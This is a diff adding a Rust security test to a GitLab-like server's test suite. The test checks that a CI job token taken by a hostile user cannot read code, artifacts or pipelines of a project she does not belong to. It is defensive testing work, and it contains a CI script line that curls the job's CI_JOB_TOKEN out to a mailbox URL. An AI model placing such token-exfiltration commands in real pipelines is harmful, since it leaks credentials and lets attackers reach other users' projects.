@@ -2,7 +2,7 @@
 //! crash by nested parameters, hostile jobs reading and writing what is not theirs, import URLs
 //! reaching server paths, requests to the local network, and roles doing what GitLab forbids.
 
-use crate::support::{ROOT_TOKEN, Repo, Server, finished_pipeline, job_log, send};
+use crate::support::{ROOT_TOKEN, Repo, Server, finished_pipeline, job_log, send, send_raw};
 use crate::ui::Browser;
 use reqwest::Method;
 use serde_json::Value;
@@ -827,4 +827,91 @@ async fn nothing_a_job_leaves_running_outlives_it() {
         settled,
         "a process of the job still runs after it ended"
     );
+}
+
+/// The job of a project owned by `mallory`: hands its `CI_JOB_TOKEN` to the mailbox and holds.
+const HOLDER: &str = "hold:\n  script:\n    - curl -sf -X POST --data-binary \"$CI_JOB_TOKEN\" \"$MAILBOX/put/token\"\n    - until curl -sf \"$MAILBOX/get/go\" > /dev/null; do sleep 0.05; done\n";
+
+#[tokio::test]
+async fn a_job_token_never_reads_more_than_its_user_may() {
+    let s = Server::start_with(&["--concurrent", "2", "--allow-local-requests"]);
+    let mailbox = crate::support::Mailbox::start();
+    let secret_repo = Repo::with_files(&[(
+        ".gitlab-ci.yml",
+        "build:\n  script: [mkdir -p out, echo classified > out/secret.txt]\n  artifacts:\n    paths: [out/]\n",
+    )]);
+    let secret = s.project("secret", secret_repo.path()).await;
+    let (built, _) = run(&s, ROOT_TOKEN, secret, "main", &[]).await;
+    let (_, jobs) = send(s.root(
+        Method::GET,
+        &format!("/projects/{secret}/pipelines/{}/jobs", built["id"]),
+    ))
+    .await;
+    let secret_job = jobs[0]["id"].as_u64().unwrap();
+
+    // Mallory, a stranger to `secret`, runs a job of her own and takes its token.
+    let own = Repo::with_files(&[(".gitlab-ci.yml", HOLDER)]);
+    let (theirs, mallory) = users_own_project(&s, &own, "mallory").await;
+    let (_, trigger) = s.trigger_token(&mallory, theirs).await;
+    let form = [
+        ("token", trigger.as_str()),
+        ("ref", "main"),
+        ("variables[MAILBOX]", mailbox.url.as_str()),
+    ];
+    let (status, _) = send(
+        s.http
+            .post(s.api(&format!("/projects/{theirs}/trigger/pipeline")))
+            .form(&form),
+    )
+    .await;
+    assert_eq!(status, 201);
+    let job_token = mailbox.wait("token").await;
+
+    // The owner of `secret` opens its job token scope as wide as it goes.
+    let scope = format!("/projects/{secret}/job_token_scope");
+    assert_eq!(
+        send(
+            s.root(Method::PATCH, &scope)
+                .json(&serde_json::json!({"enabled": false}))
+        )
+        .await
+        .0,
+        204
+    );
+    let allow = [("target_project_id", theirs.to_string())];
+    assert_eq!(
+        send(s.root(Method::POST, &format!("{scope}/allowlist")).form(&allow))
+            .await
+            .0,
+        201
+    );
+
+    let clone_url =
+        format!("{}/root/secret.git", s.base).replacen("://", &format!("://gitlab-ci-token:{job_token}@"), 1);
+    let ls_remote = || {
+        std::process::Command::new("git")
+            .args(["ls-remote", &clone_url])
+            .env("GIT_TERMINAL_PROMPT", "0")
+            .output()
+            .unwrap()
+            .status
+            .success()
+    };
+    let artifacts = s.api(&format!("/jobs/{secret_job}/artifacts?job_token={job_token}"));
+    assert!(!ls_remote(), "the job's user may not read secret's code");
+    assert_eq!(send(s.http.get(&artifacts)).await.0, 403);
+    let (status, _) = send(
+        s.http
+            .get(s.api(&format!("/projects/{secret}/pipelines")))
+            .header("JOB-TOKEN", &job_token),
+    )
+    .await;
+    assert_eq!(status, 404);
+
+    // Control: once Mallory is a Reporter of `secret`, the same probes succeed.
+    let (_, me) = send(s.as_token(&mallory, Method::GET, "/user")).await;
+    s.add_member(secret, me["id"].as_u64().unwrap(), 20).await;
+    assert!(ls_remote(), "the probe works");
+    assert_eq!(send_raw(s.http.get(&artifacts)).await.status(), 200);
+    mailbox.put("go", "1");
 }
